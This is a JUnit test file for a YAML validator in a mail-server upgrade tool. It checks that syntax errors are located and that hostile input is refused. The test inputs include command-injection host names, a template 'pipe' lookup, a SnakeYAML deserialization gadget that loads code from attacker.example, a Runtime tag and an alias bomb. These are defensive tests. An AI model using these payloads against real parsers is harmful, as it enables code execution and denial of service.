package io.msupgrade.rules;

import static io.msupgrade.rules.TestModels.FILE;
import static io.msupgrade.rules.TestModels.model;
import static io.msupgrade.rules.TestModels.valueOf;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.msupgrade.model.Problem;
import io.msupgrade.model.ReadResult;
import io.msupgrade.model.Severity;

/** MS012 as the reader reports it: every syntax problem located, all in one run, hostile files refused. */
class ReaderSyntaxTest {

    private static ReadResult read(String yaml) {
        return TestModels.validate(yaml);
    }

    private static ReadResult read(byte[] bytes) {
        return new Validator().validate(FILE, bytes);
    }

    /** Exactly one problem, an MS012 error at {@code location}, whose message contains {@code text}. */
    private static Problem only(ReadResult r, String location, String text) {
        assertEquals(1, r.problems().size(), () -> TestModels.describe(r));
        Problem p = r.problems().get(0);
        assertEquals("MS012", p.code());
        assertEquals(Severity.ERROR, p.severity());
        assertEquals(location, p.location().toString(), p::format);
        assertTrue(p.message().contains(text), p::format);
        assertTrue(r.model().isEmpty());
        return p;
    }

    @Test
    void everySyntaxProblemIsReportedInOneRun() {
        var m = model()
                .host("h1", "adress: 192.0.2.1", "bits: sixty-four")
                .newHost("H1");
        // a duplicate key cannot be built from a map: write it into the text
        String yaml = m.yaml().replace("    arch: x86_64\n    version", "    arch: x86_64\n    arch: sparc\n    version");
        ReadResult r = read(yaml);
        List<String> got = r.problems().stream().map(Problem::format).toList();
        assertEquals(4, got.size(), String.join("\n", got));
        assertTrue(r.problems().stream().allMatch(p -> p.code().equals("MS012") && p.isError()));
        assertEquals(List.of(
                FILE + ":20:5: error MS012: duplicate key 'arch' in a host (first at line 19)",
                FILE + ":23:5: error MS012: unknown key 'adress' in a host (did you mean 'address'?)",
                FILE + ":24:11: error MS012: 'bits' of a host must be a whole number, not the string 'sixty-four'",
                FILE + ":26:11: error MS012: duplicate host name 'H1' (first at line 16); names are unique across"
                        + " hosts and new_hosts"), got);
        assertTrue(r.model().isEmpty());
    }

    @Test
    void unknownKeywordSuggestsTheClosest() {
        var m = model().host("mta1", "strategy: inplace");
        Problem p = only(read(m.yaml()), valueOf(m.yaml(), "mta1", "strategy"), "did you mean 'in-place'?");
        assertTrue(p.message().contains("not one of in-place, coexistence"), p.message());
    }

    @Test
    void missingRequiredKeyPointsAtItsMapping() {
        var m = model().host("mta1", "strategy: null");
        only(read(m.yaml()), TestModels.entryOf(m.yaml(), "mta1"), "missing required key 'strategy' in a host");
    }

    @Test
    void wrongTypes() {
        var list = model().host("mta1", "components: mta");
        only(read(list.yaml()), valueOf(list.yaml(), "mta1", "components"), "must be a list, not the string 'mta'");
        var map = model().top("migration: [1, 2]");
        only(read(map.yaml()), FILE + ":15:12", "must be a mapping of keys to values, not a list");
        var bool = model().target("unified_config", "maybe");
        only(read(bool.yaml()), FILE + ":5:19", "must be true or false");
    }

    @ParameterizedTest
    @ValueSource(strings = {"store_1", "\"a;reboot\"", "\"$(id)\"", "\"a b\"", "-lead", "\"`id`\"", "\"a|b\""})
    void badHostNames(String name) {
        String yaml = model().yaml().replace("  - name: mta1", "  - name: " + name);
        only(read(yaml), FILE + ":16:11", "expected a host name");
    }

    @Test
    void templateMarkersInAnyValue() {
        String yaml = model().yaml().replace("  password_var: vault_dm_password",
                "  password_var: vault_dm_password\n  bind_dn: \"cn={{ lookup('pipe', 'id') }}\"");
        only(read(yaml), FILE + ":15:12", "template marker '{{' is not allowed");
        String block = model().yaml().replace("  password_var: vault_dm_password",
                "  password_var: vault_dm_password\n  bind_dn: cn={% raw %}x");
        only(read(block), FILE + ":15:12", "template marker '{%' is not allowed");
    }

    @Test
    void lineBreakAndNulInsideAValue() {
        String nl = model().yaml().replace("  password_var: vault_dm_password",
                "  password_var: vault_dm_password\n  bind_dn: \"cn=a\\nb\"");
        only(read(nl), FILE + ":15:12", "a line break is not allowed");
        String nul = model().yaml().replace("host: ldap1.example.com", "host: \"ldap1\\0\"");
        only(read(nul), FILE + ":13:9", "a NUL character is not allowed");
    }

    @Test
    void rawNulByteIsLocated() {
        String yaml = model().yaml().replace("deployment: test-mail", "deployment: test-mail # a\0b");
        only(read(yaml), FILE + ":2:26", "U+0000");
    }

    @Test
    void tabsAreLocated() {
        String yaml = model().yaml().replace("    os: oracle-linux-8", "\tos: oracle-linux-8");
        only(read(yaml), FILE + ":18:1", "TAB");
    }

    @Test
    void invalidUtf8IsLocated() {
        byte[] bytes = model().yaml().replace("ldap1.example.com", "ldap1.ex\u00e9mple.com")
                .getBytes(StandardCharsets.ISO_8859_1);
        only(read(bytes), FILE + ":13:17", "not valid UTF-8");
    }

    @Test
    void utf8ByteOrderMarkIsAccepted() {
        TestModels.assertClean(read(("\uFEFF" + model().yaml()).getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void emptyFilesAndOtherShapes() {
        only(read(""), FILE + ":1:1", "the file is empty");
        only(read(" \n\n"), FILE + ":1:1", "the file is empty");
        only(read("# only a comment\n"), FILE + ":1:1", "no YAML document");
        only(read("- model: msupgrade/v1\n- deployment: x\n"), FILE + ":1:1", "must be a mapping of keys to values, not a list");
        only(read("just words\n"), FILE + ":1:1", "not the string 'just words'");
        only(read(model().yaml() + "---\nmodel: msupgrade/v1\n"), FILE + ":23:1", "more than one YAML document");
    }

    @Test
    void javaTagsAreRefused() {
        String yaml = model().yaml().replace("deployment: test-mail",
                "deployment: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://attacker.example/\"]]]]");
        only(read(yaml), FILE + ":2:13", "Global tag is not allowed");
        String runtime = model().yaml().replace("deployment: test-mail", "deployment: !!java.lang.Runtime {}");
        only(read(runtime), FILE + ":2:13", "Global tag is not allowed");
    }

    @ParameterizedTest
    @ValueSource(strings = {"!custom test-mail", "!!binary dGVzdA==", "!<tag:example.com,2000:x> test-mail"})
    void otherTagsAreRefused(String value) {
        String yaml = model().yaml().replace("deployment: test-mail", "deployment: " + value);
        ReadResult r = read(yaml);
        assertEquals(1, r.problems().size(), () -> TestModels.describe(r));
        Problem p = r.problems().get(0);
        assertEquals("MS012", p.code());
        assertEquals(FILE + ":2:13", p.location().toString(), p::format);
        assertTrue(p.message().contains("not allowed"), p::format);
    }

    @Test
    void mergeKeysAreRefused() {
        String yaml = model().yaml().replace("    strategy: in-place", "    <<: { strategy: in-place }");
        ReadResult r = read(yaml);
        assertTrue(r.problems().stream().anyMatch(p -> p.location().toString().equals(FILE + ":21:5")
                && p.message().contains("merge keys")), () -> TestModels.describe(r));
    }

    @Test
    void aliasBombIsRefusedFast() {
        StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            String prev = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(String.join(", ",
                    java.util.Collections.nCopies(9, prev))).append("]\n");
        }
        ReadResult r = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> read(bomb.toString()));
        Problem p = only(r, FILE + ":1:1", "aliases");
        assertTrue(p.message().contains("32"), p.message());
    }

    @Test
    void aliasesWithinTheLimitCannotFloodTheReport() {
        // 30 aliases of a 3000-item list where the binder reads every item: 90,000 bad components.
        StringBuilder y = new StringBuilder(model().yaml().substring(0, model().yaml().indexOf("hosts:\n")));
        y.append("migration:\n  pilot_users: &p [").append("u, ".repeat(3000)).append("u]\nhosts:\n");
        for (int i = 0; i < 30; i++) {
            y.append("  - name: h").append(i).append("\n    components: *p\n    os: oracle-linux-8\n")
                    .append("    arch: x86_64\n    version: 8.0.2.3.0\n    strategy: in-place\n");
        }
        ReadResult r = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> read(y.toString()));
        assertEquals(101, r.problems().size());
        assertTrue(r.problems().stream().anyMatch(p -> p.message().startsWith("more than 100 problems")));
    }

    @Test
    void deepNestingIsRefused() {
        only(read("model: " + "[".repeat(100) + "]".repeat(100) + "\n"), FILE + ":1:1", "Nesting Depth");
    }

    @Test
    void fileSizeIsCapped(@TempDir Path dir) throws Exception {
        byte[] big = new byte[1024 * 1024 + 1];
        Arrays.fill(big, (byte) '#');
        only(read(big), FILE + ":1:1", "capped at 1048576 bytes");
        Path file = dir.resolve("big.yaml");
        Files.write(file, big);
        ReadResult r = new Validator().validate(file);
        assertEquals(1, r.problems().size());
        assertEquals(file + ":1:1", r.problems().get(0).location().toString());
    }

    @Test
    void missingFileAndDirectory(@TempDir Path dir) {
        ReadResult none = new Validator().validate(dir.resolve("nope.yaml"));
        assertTrue(none.problems().get(0).message().contains("no such file"));
        ReadResult directory = new Validator().validate(dir);
        assertTrue(directory.problems().get(0).message().contains("is a directory"));
    }

    @Test
    void previousMediaKeysAreVersions() {
        var m = model().previous("eight", "{ linux: /m/x }");
        only(read(m.yaml()), FILE + ":12:5", "installed versions");
    }
}
